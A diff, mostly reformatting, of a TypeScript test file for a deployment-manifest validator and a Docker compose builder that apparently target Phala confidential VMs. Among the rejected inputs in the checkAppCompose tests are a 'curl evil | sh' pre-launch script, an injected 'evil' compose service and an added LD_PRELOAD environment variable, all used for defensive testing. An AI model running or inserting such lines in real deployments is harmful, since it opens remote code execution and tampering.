@@ -2,7 +2,12 @@
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import {
-  buildAppCompose, instanceTypeFor, ManifestError, parseManifest, validateManifest, type Manifest,
+  buildAppCompose,
+  instanceTypeFor,
+  ManifestError,
+  parseManifest,
+  validateManifest,
+  type Manifest,
 } from '../../../lib/providers/manifest';
 import { checkAppCompose, AppComposeError } from '../../../lib/providers/phala';
 
@@ -40,10 +45,12 @@ describe('parseManifest', () => {
   });
 
   it('fills protocol, public, interval_s and timeout_s defaults', () => {
-    const m = validateManifest(withChange((x) => {
-      x.ports = [{ port: 8080 }];
-      x.healthcheck = { path: '/', port: 8080 };
-    }));
+    const m = validateManifest(
+      withChange((x) => {
+        x.ports = [{ port: 8080 }];
+        x.healthcheck = { path: '/', port: 8080 };
+      }),
+    );
     expect(m.ports).toEqual([{ port: 8080, protocol: 'http', public: true }]);
     expect(m.healthcheck).toEqual({ path: '/', port: 8080, intervalS: 30, timeoutS: 5 });
   });
@@ -87,13 +94,19 @@ describe('parseManifest', () => {
     expect(issuesOf(withChange((m) => (m.env[2].default = 'a${HOME}')))).toEqual([
       'env[2].default must not contain "$", "{" or "}" (compose would interpolate them)',
     ]);
-    expect(issuesOf(withChange((m) => (m.env[2].default = 'a\nb')))).toEqual(['env[2].default must not contain control characters']);
+    expect(issuesOf(withChange((m) => (m.env[2].default = 'a\nb')))).toEqual([
+      'env[2].default must not contain control characters',
+    ]);
     expect(issuesOf(withChange((m) => (m.env[2].default = 5)))).toEqual(['env[2].default must be a string']);
   });
 
   it('requires the env entry fields with their types', () => {
     const issues = issuesOf(withChange((m) => (m.env[1] = { key: 'X', required: 'yes' })));
-    expect(issues).toEqual(['env[1].description must be a string', 'env[1].required must be true or false', 'env[1].sensitive must be true or false']);
+    expect(issues).toEqual([
+      'env[1].description must be a string',
+      'env[1].required must be true or false',
+      'env[1].sensitive must be true or false',
+    ]);
   });
 
   it('rejects unknown fields (typos) at every level', () => {
@@ -101,7 +114,9 @@ describe('parseManifest', () => {
     expect(issuesOf(withChange((m) => (m.env[0].secret = true)))[0]).toMatch(/^env\[0\]\.secret is not a known field/);
     expect(issuesOf(withChange((m) => (m.resources.gpu = 1)))[0]).toMatch(/^resources\.gpu is not a known field/);
     // $schema is allowed for editor support.
-    expect(validateManifest(withChange((m) => (m.$schema = 'https://example.invalid/s.json'))).name).toBe('openclaw-gateway');
+    expect(validateManifest(withChange((m) => (m.$schema = 'https://example.invalid/s.json'))).name).toBe(
+      'openclaw-gateway',
+    );
   });
 
   it('bounds resources', () => {
@@ -115,32 +130,36 @@ describe('parseManifest', () => {
   });
 
   it('checks ports: range, protocol, uniqueness, count', () => {
-    expect(issuesOf(withChange((m) => (m.ports = [{ port: 18789 }, { port: 70000 }, { port: 18789, protocol: 'udp' }])))).toEqual([
-      'ports[1].port 70000 must be between 1 and 65535',
-      'ports[2].protocol "udp" must be "http" or "tcp"',
-    ]);
+    expect(
+      issuesOf(withChange((m) => (m.ports = [{ port: 18789 }, { port: 70000 }, { port: 18789, protocol: 'udp' }]))),
+    ).toEqual(['ports[1].port 70000 must be between 1 and 65535', 'ports[2].protocol "udp" must be "http" or "tcp"']);
     expect(issuesOf(withChange((m) => (m.ports = [{ port: 18789 }, { port: 18789, public: false }])))).toEqual([
       'ports[1].port 18789 duplicates ports[0].port',
     ]);
-    expect(issuesOf(withChange((m) => (m.ports = Array.from({ length: 17 }, (_, i) => ({ port: 1000 + i }))))))
-      .toContain('ports has 17 entries; at most 16 are allowed');
+    expect(
+      issuesOf(withChange((m) => (m.ports = Array.from({ length: 17 }, (_, i) => ({ port: 1000 + i }))))),
+    ).toContain('ports has 17 entries; at most 16 are allowed');
   });
 
   it('checks the healthcheck: path form, a declared port, timeout within interval', () => {
     expect(issuesOf(withChange((m) => (m.healthcheck.path = 'healthz')))).toEqual([
       'healthcheck.path "healthz" must match an absolute URL path like /healthz',
     ]);
-    expect(issuesOf(withChange((m) => (m.healthcheck.port = 9999)))).toEqual(['healthcheck.port 9999 is not one of ports[].port']);
-    expect(issuesOf(withChange((m) => (m.healthcheck = { path: '/', port: 18789, interval_s: 5, timeout_s: 10 })))).toEqual([
-      'healthcheck.timeout_s 10 must not exceed healthcheck.interval_s 5',
+    expect(issuesOf(withChange((m) => (m.healthcheck.port = 9999)))).toEqual([
+      'healthcheck.port 9999 is not one of ports[].port',
     ]);
+    expect(
+      issuesOf(withChange((m) => (m.healthcheck = { path: '/', port: 18789, interval_s: 5, timeout_s: 10 }))),
+    ).toEqual(['healthcheck.timeout_s 10 must not exceed healthcheck.interval_s 5']);
   });
 
   it('checks name and image forms', () => {
     expect(issuesOf(withChange((m) => (m.name = 'OpenClaw')))).toEqual([
       'name "OpenClaw" must match [a-z][a-z0-9-]*[a-z0-9] (3–63 characters)',
     ]);
-    expect(issuesOf(withChange((m) => (m.image = 'ghcr.io/OpenClaw/openclaw:latest')))[0]).toMatch(/^image ".*" must match a Docker image reference/);
+    expect(issuesOf(withChange((m) => (m.image = 'ghcr.io/OpenClaw/openclaw:latest')))[0]).toMatch(
+      /^image ".*" must match a Docker image reference/,
+    );
     expect(issuesOf(withChange((m) => (m.image = 'evil/${X}')))[0]).toMatch(/^image /);
     for (const image of ['nginx', 'nginx:1.27', 'localhost:5000/a/b_c:v1', `ghcr.io/o/n@sha256:${'a'.repeat(64)}`]) {
       expect(validateManifest(withChange((m) => (m.image = image))).image).toBe(image);
@@ -148,16 +167,27 @@ describe('parseManifest', () => {
   });
 
   it('reports every problem at once', () => {
-    const issues = issuesOf(withChange((m) => {
-      m.name = '';
-      m.env[0].key = 'A-B';
-      m.ports = 'x';
-    }));
-    expect(issues).toEqual(['name must not be empty', 'env[0].key "A-B" must match [A-Za-z_][A-Za-z0-9_]*', 'ports must be a list']);
+    const issues = issuesOf(
+      withChange((m) => {
+        m.name = '';
+        m.env[0].key = 'A-B';
+        m.ports = 'x';
+      }),
+    );
+    expect(issues).toEqual([
+      'name must not be empty',
+      'env[0].key "A-B" must match [A-Za-z_][A-Za-z0-9_]*',
+      'ports must be a list',
+    ]);
   });
 
   it('caps the env list', () => {
-    const env = Array.from({ length: 65 }, (_, i) => ({ key: `K${i}`, description: 'd', required: false, sensitive: false }));
+    const env = Array.from({ length: 65 }, (_, i) => ({
+      key: `K${i}`,
+      description: 'd',
+      required: false,
+      sensitive: false,
+    }));
     expect(issuesOf(withChange((m) => (m.env = env)))).toEqual(['env has 65 entries; at most 64 are allowed']);
   });
 });
@@ -202,18 +232,26 @@ describe('buildAppCompose', () => {
 
   it('is deterministic: same input, byte-identical output; a different manifest changes it', () => {
     const a = buildAppCompose(manifest(), { name: 'my-openclaw', kmsId: 'kms-1' });
-    const b = buildAppCompose(parseManifest(JSON.stringify(JSON.parse(exampleText), null, 4)), { name: 'my-openclaw', kmsId: 'kms-1' });
+    const b = buildAppCompose(parseManifest(JSON.stringify(JSON.parse(exampleText), null, 4)), {
+      name: 'my-openclaw',
+      kmsId: 'kms-1',
+    });
     expect(JSON.stringify(b)).toBe(JSON.stringify(a));
-    const c = buildAppCompose(validateManifest(withChange((m) => (m.env[2].default = 'anthropic/claude-opus-4-6'))), { name: 'my-openclaw', kmsId: 'kms-1' });
+    const c = buildAppCompose(validateManifest(withChange((m) => (m.env[2].default = 'anthropic/claude-opus-4-6'))), {
+      name: 'my-openclaw',
+      kmsId: 'kms-1',
+    });
     expect(c.dockerComposeFile).not.toBe(a.dockerComposeFile);
   });
 
   it('escapes $ in commands, quotes YAML specials, keeps private ports internal, handles optional env', () => {
-    const m = validateManifest(withChange((x) => {
-      x.command = ['sh', '-c', 'echo $HOME "quoted" \\ # not a comment: yes'];
-      x.env = [{ key: 'OPT', description: 'optional', required: false, sensitive: true }];
-      x.ports = [{ port: 18789 }, { port: 9100, protocol: 'tcp', public: false }];
-    }));
+    const m = validateManifest(
+      withChange((x) => {
+        x.command = ['sh', '-c', 'echo $HOME "quoted" \\ # not a comment: yes'];
+        x.env = [{ key: 'OPT', description: 'optional', required: false, sensitive: true }];
+        x.ports = [{ port: 18789 }, { port: 9100, protocol: 'tcp', public: false }];
+      }),
+    );
     const yaml = buildAppCompose(m, { name: 'abcde' }).dockerComposeFile;
     expect(yaml).toContain('    command: ["sh", "-c", "echo $$HOME \\"quoted\\" \\\\ # not a comment: yes"]');
     expect(yaml).toContain('      OPT: "${OPT:-}"');
@@ -221,7 +259,9 @@ describe('buildAppCompose', () => {
   });
 
   it('omits environment when the manifest has no env', () => {
-    const yaml = buildAppCompose(validateManifest(withChange((x) => (x.env = []))), { name: 'abcde' }).dockerComposeFile;
+    const yaml = buildAppCompose(validateManifest(withChange((x) => (x.env = []))), {
+      name: 'abcde',
+    }).dockerComposeFile;
     expect(yaml).not.toContain('environment');
   });
 
@@ -232,7 +272,13 @@ describe('buildAppCompose', () => {
   });
 
   it('passes options through', () => {
-    const built = buildAppCompose(manifest(), { name: 'abcde', kmsId: 'kms-1', instanceType: 'tdx.large', gatewayEnabled: false, publicLogs: true });
+    const built = buildAppCompose(manifest(), {
+      name: 'abcde',
+      kmsId: 'kms-1',
+      instanceType: 'tdx.large',
+      gatewayEnabled: false,
+      publicLogs: true,
+    });
     expect(built.provisionRequest.kmsId).toBe('kms-1');
     expect(built.provisionRequest.instanceType).toBe('tdx.large');
     expect(built.provisionRequest.composeFile.gatewayEnabled).toBe(false);
@@ -277,13 +323,37 @@ describe('checkAppCompose', () => {
   });
 
   it.each([
-    ['docker_compose_file', (d: Record<string, unknown>) => (d.docker_compose_file = `${built.dockerComposeFile}  evil:\n    image: "x"\n`), /docker_compose_file/],
-    ['wider allowed_envs', (d: Record<string, unknown>) => (d.allowed_envs = [...built.allowedEnvs, 'LD_PRELOAD']), /admits "LD_PRELOAD"/],
-    ['narrower allowed_envs', (d: Record<string, unknown>) => (d.allowed_envs = built.allowedEnvs.slice(1)), /lacks "ANTHROPIC_API_KEY"/],
-    ['duplicate allowed_envs', (d: Record<string, unknown>) => (d.allowed_envs = [...built.allowedEnvs, built.allowedEnvs[0]]), /twice/],
+    [
+      'docker_compose_file',
+      (d: Record<string, unknown>) => (d.docker_compose_file = `${built.dockerComposeFile}  evil:\n    image: "x"\n`),
+      /docker_compose_file/,
+    ],
+    [
+      'wider allowed_envs',
+      (d: Record<string, unknown>) => (d.allowed_envs = [...built.allowedEnvs, 'LD_PRELOAD']),
+      /admits "LD_PRELOAD"/,
+    ],
+    [
+      'narrower allowed_envs',
+      (d: Record<string, unknown>) => (d.allowed_envs = built.allowedEnvs.slice(1)),
+      /lacks "ANTHROPIC_API_KEY"/,
+    ],
+    [
+      'duplicate allowed_envs',
+      (d: Record<string, unknown>) => (d.allowed_envs = [...built.allowedEnvs, built.allowedEnvs[0]]),
+      /twice/,
+    ],
     ['kms disabled', (d: Record<string, unknown>) => (d.kms_enabled = false), /kms_enabled/],
-    ['local key provider', (d: Record<string, unknown>) => (d.local_key_provider_enabled = true), /local_key_provider_enabled/],
-    ['pre-launch script', (d: Record<string, unknown>) => (d.pre_launch_script = 'curl evil | sh'), /pre_launch_script/],
+    [
+      'local key provider',
+      (d: Record<string, unknown>) => (d.local_key_provider_enabled = true),
+      /local_key_provider_enabled/,
+    ],
+    [
+      'pre-launch script',
+      (d: Record<string, unknown>) => (d.pre_launch_script = 'curl evil | sh'),
+      /pre_launch_script/,
+    ],
     ['public logs', (d: Record<string, unknown>) => (d.public_logs = true), /public_logs/],
     ['runner', (d: Record<string, unknown>) => (d.runner = 'bash'), /runner/],
   ])('rejects a changed %s', (_name, change, message) => {
